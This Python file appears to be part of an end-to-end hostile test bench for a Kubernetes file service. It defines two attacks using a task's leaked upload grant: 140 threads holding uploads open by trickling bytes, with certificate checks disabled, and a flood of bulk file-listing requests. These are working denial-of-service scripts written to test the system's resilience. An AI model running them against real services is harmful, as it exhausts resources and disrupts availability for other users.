"""Who holds a grant, and uses it for more than it is there for."""

from __future__ import annotations

import threading

from e2e.bench.hostile.attack import Attack
from e2e.bench.hostile.ground import Ground, script
from e2e.fixtures.kubernetes import wait_for

_ASK = """
import json, os, socket, ssl, threading, time, urllib.parse, urllib.request
url, grant = os.environ["URL"], os.environ["GRANT"]
trust = ssl._create_unverified_context()
def ask(operations):
    body = json.dumps({"operations": operations}).encode()
    headers = {"Content-Type": "application/json", "Authorization": "Bearer " + grant}
    request = urllib.request.Request(url + "/v1/files", body, headers)
    return json.load(urllib.request.urlopen(request, timeout=120, context=trust))["answers"]
"""
SLOW_PUTS = (
    _ASK
    + """
def put(number):
    while True:
        try:
            name = f"slow-{number}-{time.time()}"
            answer = ask([{"do": "put", "name": name, "size": 1 << 20, "sha256": "0" * 64}])[0]
            target = urllib.parse.urlsplit(answer["url"])
            lines = [f"PUT {target.path}?{target.query} HTTP/1.1", f"Host: {target.netloc}",
                     f"Content-Length: {1 << 20}"]
            lines += [f"{key}: {value}" for key, value in answer["headers"].items()
                      if key.lower() not in ("host", "content-length")]
            plain = socket.create_connection((target.hostname, target.port or 80))
            with trust.wrap_socket(plain) as line:
                line.sendall(("\\r\\n".join(lines) + "\\r\\n\\r\\n").encode())
                for _ in range(60):
                    line.sendall(b"x")
                    time.sleep(2)
        except Exception as error:
            print(error, flush=True)
            time.sleep(1)
for number in range(140):
    threading.Thread(target=put, args=(number,)).start()
"""
)
"""Sends 140 files at once, of which a byte comes now and then."""
MANY_LISTS = (
    _ASK
    + """
def lists():
    while True:
        try:
            ask([{"do": "list"}] * 1000)
        except Exception as error:
            print(error, flush=True)
            time.sleep(1)
for number in range(2):
    threading.Thread(target=lists).start()
"""
)
_FILES = 9_000


class WithGrant(Attack):
    """Reads the grant of an own task in its pod, which everybody may who may read pods."""

    greeting = "file"

    def prepare(self, ground: Ground) -> None:
        ground.flow("held", tasks=[script("echo x > x.txt; sleep 600", outputFiles=["x.txt"])])
        ground.executions("held")
        self.url, self.token = ground.grant("held-0")

    def run(self, ground: Ground, program: str) -> None:
        ground.pod("evil", program, URL=self.url, GRANT=self.token)


class SlowUploads(WithGrant):
    name = "h8a"
    does = "140 uploads that never end"

    def begin(self, ground: Ground, over: threading.Event) -> None:
        self.run(ground, SLOW_PUTS)


class ManyListings(WithGrant):
    name = "h8b"
    does = "2 × 1,000 lists of 9,000 files"

    def prepare(self, ground: Ground) -> None:
        with ground.repository() as repository:
            repository.commit({f"files/{n}": "x" for n in range(_FILES)})
            url = repository.url
        files = [{"namespace": "company.hostile", "path": "files"}]
        ground.git_source("files", url, namespaceFiles=files)
        wait_for("the files from Git", lambda: _is_applied(ground), 90)
        super().prepare(ground)

    def begin(self, ground: Ground, over: threading.Event) -> None:
        self.run(ground, MANY_LISTS)


def _is_applied(ground: Ground) -> bool:
    body = ground.kubernetes.get("gitsources", ground.namespace, "files") or {}
    return "appliedCommit" in (body.get("status") or {})


ATTACKS = (SlowUploads, ManyListings)
